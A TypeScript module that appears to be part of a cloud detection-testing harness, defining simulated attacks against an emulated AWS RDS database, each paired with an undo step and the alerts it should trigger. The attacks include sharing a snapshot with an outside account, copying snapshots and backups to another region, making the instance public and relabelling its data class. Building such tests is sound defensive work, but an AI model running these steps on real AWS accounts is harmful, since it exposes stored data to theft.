/** Ways out of databases. */
import {
  AddTagsToResourceCommand,
  CopyDBSnapshotCommand,
  CreateDBInstanceReadReplicaCommand,
  CreateDBSnapshotCommand,
  DeleteDBInstanceCommand,
  DeleteDBSnapshotCommand,
  ModifyDBInstanceCommand,
  ModifyDBSnapshotAttributeCommand,
  RDSClient,
  RemoveTagsFromResourceCommand,
  RestoreDBInstanceFromDBSnapshotCommand,
  StartDBInstanceAutomatedBackupsReplicationCommand,
  StopDBInstanceAutomatedBackupsReplicationCommand,
} from '@aws-sdk/client-rds';
import type { Attack, Field } from '../attack';

const rds = async ({ emulator, account }: Field, region: string): Promise<RDSClient> =>
  new RDSClient(await emulator.client(account, region));
const accounts = ({ site }: Field): string => `${site}-accounts`;
const arnOf = (field: Field, kind: string, name: string): string =>
  `arn:aws:rds:${field.region}:${field.account}:${kind}:${name}`;

const rdsEvent = (eventName: string): Pick<Attack, 'eventSource' | 'eventName'> => ({
  eventSource: 'rds.amazonaws.com',
  eventName,
});
const instance = (slug: string): RegExp => new RegExp(`/accountsInstance[0-9A-Z]+/${slug}$`, 'u');
const SNAPSHOT = /^unexpected AWS::RDS::DBSnapshot /u;

async function snapshot(field: Field): Promise<() => Promise<unknown>> {
  const client = await rds(field, field.region);
  const DBSnapshotIdentifier = 'thief';
  await client.send(new CreateDBSnapshotCommand({ DBInstanceIdentifier: accounts(field), DBSnapshotIdentifier }));
  return () => client.send(new DeleteDBSnapshotCommand({ DBSnapshotIdentifier }));
}

export const DATABASE_ATTACKS: readonly Attack[] = [
  {
    slug: 'snapshot-shared',
    what: 'share a snapshot of the database with another account',
    action: 'rds:ModifyDBSnapshotAttribute',
    at: 'site',
    ...rdsEvent('ModifyDBSnapshotAttribute'),
    channels: [],
    names: [SNAPSHOT],
    open: async (field) => {
      const undo = await snapshot(field);
      const client = await rds(field, field.region);
      await client.send(
        new ModifyDBSnapshotAttributeCommand({
          DBSnapshotIdentifier: 'thief',
          AttributeName: 'restore',
          ValuesToAdd: ['999988887777'],
        }),
      );
      return undo;
    },
  },
  {
    slug: 'snapshot-copied',
    what: 'copy a snapshot of the database abroad',
    action: 'rds:CopyDBSnapshot',
    at: 'abroad',
    ...rdsEvent('CopyDBSnapshot'),
    channels: [],
    names: [SNAPSHOT],
    open: async (field) => {
      const undo = await snapshot(field);
      const there = await rds(field, field.abroad);
      await there.send(
        new CopyDBSnapshotCommand({
          SourceDBSnapshotIdentifier: arnOf(field, 'snapshot', 'thief'),
          TargetDBSnapshotIdentifier: 'thief-copy',
        }),
      );
      return async () => {
        await there.send(new DeleteDBSnapshotCommand({ DBSnapshotIdentifier: 'thief-copy' }));
        await undo();
      };
    },
  },
  {
    slug: 'database-backup-replication',
    what: 'copy the automated backups of the database abroad',
    action: 'rds:StartDBInstanceAutomatedBackupsReplication',
    at: 'abroad',
    ...rdsEvent('StartDBInstanceAutomatedBackupsReplication'),
    channels: ['rds-instance-backup-replication'],
    names: [instance('backup-replication')],
    open: async (field) => {
      const there = await rds(field, field.abroad);
      const SourceDBInstanceArn = arnOf(field, 'db', accounts(field));
      await there.send(
        new StartDBInstanceAutomatedBackupsReplicationCommand({
          SourceDBInstanceArn,
          KmsKeyId: `arn:aws:kms:${field.abroad}:${field.account}:key/00000000-0000-0000-0000-000000000000`,
        }),
      );
      return () => there.send(new StopDBInstanceAutomatedBackupsReplicationCommand({ SourceDBInstanceArn }));
    },
  },
  {
    slug: 'database-public',
    what: 'give the database an address on the internet',
    action: 'rds:ModifyDBInstance',
    at: 'site',
    ...rdsEvent('ModifyDBInstance'),
    channels: ['rds-instance-public'],
    names: [instance('public-access')],
    open: async (field) => {
      const client = await rds(field, field.region);
      const put = (PubliclyAccessible: boolean) =>
        client.send(
          new ModifyDBInstanceCommand({
            DBInstanceIdentifier: accounts(field),
            PubliclyAccessible,
            ApplyImmediately: true,
          }),
        );
      await put(true);
      return () => put(false);
    },
  },
  {
    slug: 'database-replica',
    what: 'make a read replica of the database',
    action: 'rds:CreateDBInstanceReadReplica',
    at: 'site',
    ...rdsEvent('CreateDBInstanceReadReplica'),
    channels: ['rds-instance-replica-source'],
    names: [instance('replicas'), /^unexpected AWS::RDS::DBInstance /u],
    open: async (field) => {
      const client = await rds(field, field.region);
      await client.send(
        new CreateDBInstanceReadReplicaCommand({
          DBInstanceIdentifier: 'thief-replica',
          SourceDBInstanceIdentifier: accounts(field),
        }),
      );
      // The replica inherits the protection of its source.
      return async () => {
        const DBInstanceIdentifier = 'thief-replica';
        await client.send(new ModifyDBInstanceCommand({ DBInstanceIdentifier, DeletionProtection: false }));
        await client.send(new DeleteDBInstanceCommand({ DBInstanceIdentifier, SkipFinalSnapshot: true }));
      };
    },
  },
  {
    slug: 'database-restored',
    what: 'make a second database from a snapshot, under settings of one’s own',
    action: 'rds:RestoreDBInstanceFromDBSnapshot',
    at: 'site',
    ...rdsEvent('RestoreDBInstanceFromDBSnapshot'),
    channels: ['rds-instance-restore-source'],
    names: [SNAPSHOT, /^unexpected AWS::RDS::DBInstance /u],
    open: async (field) => {
      const undo = await snapshot(field);
      const client = await rds(field, field.region);
      const DBInstanceIdentifier = 'thief-restored';
      await client.send(
        new RestoreDBInstanceFromDBSnapshotCommand({ DBInstanceIdentifier, DBSnapshotIdentifier: 'thief' }),
      );
      return async () => {
        await client.send(new ModifyDBInstanceCommand({ DBInstanceIdentifier, DeletionProtection: false }));
        await client.send(new DeleteDBInstanceCommand({ DBInstanceIdentifier, SkipFinalSnapshot: true }));
        await undo();
      };
    },
  },
  {
    slug: 'database-class',
    what: 'call the database public by its tag',
    action: 'rds:AddTagsToResource',
    at: 'site',
    ...rdsEvent('AddTagsToResource'),
    channels: [],
    names: [instance('data-class')],
    open: async (field) => {
      const client = await rds(field, field.region);
      const ResourceName = arnOf(field, 'db', accounts(field));
      const put = (Value: string) =>
        client.send(new AddTagsToResourceCommand({ ResourceName, Tags: [{ Key: 'data-class', Value }] }));
      await put('public');
      return () => put('restricted');
    },
  },
  {
    slug: 'database-class-removed',
    what: 'take the class off the database',
    action: 'rds:RemoveTagsFromResource',
    at: 'site',
    ...rdsEvent('RemoveTagsFromResource'),
    channels: [],
    names: [instance('data-class')],
    open: async (field) => {
      const client = await rds(field, field.region);
      const ResourceName = arnOf(field, 'db', accounts(field));
      await client.send(new RemoveTagsFromResourceCommand({ ResourceName, TagKeys: ['data-class'] }));
      return () =>
        client.send(new AddTagsToResourceCommand({ ResourceName, Tags: [{ Key: 'data-class', Value: 'restricted' }] }));
    },
  },
];
